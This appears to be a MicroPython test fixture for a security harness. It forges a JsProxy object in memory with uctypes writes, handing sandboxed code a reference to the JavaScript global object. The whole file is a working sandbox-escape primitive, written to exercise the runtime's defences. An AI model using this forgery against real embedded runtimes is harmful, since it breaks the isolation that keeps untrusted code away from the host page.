# A JsProxy forged in memory: deletes and re-imports jsffi, then builds a proxy object by hand and leaves it in `g`.
# Attacks include it with a line {{FORGE_JSPROXY}} (tests/security/harness.ts substitutes it).
import sys, uctypes
del sys.modules["jsffi"]
import jsffi
fake = bytearray(8)  # a JsProxy built in memory: its type pointer, then JS reference 0 (globalThis in the stock glue)
uctypes.struct(uctypes.addressof(fake), {"t": 0 | uctypes.UINT32}).t = id(jsffi.JsProxy)
box = [None]
uctypes.struct(uctypes.struct(id(box), {"items": 12 | uctypes.UINT32}).items, {"p": 0 | uctypes.UINT32}).p = uctypes.addressof(fake)
g = box[0]
print("forged", type(g))
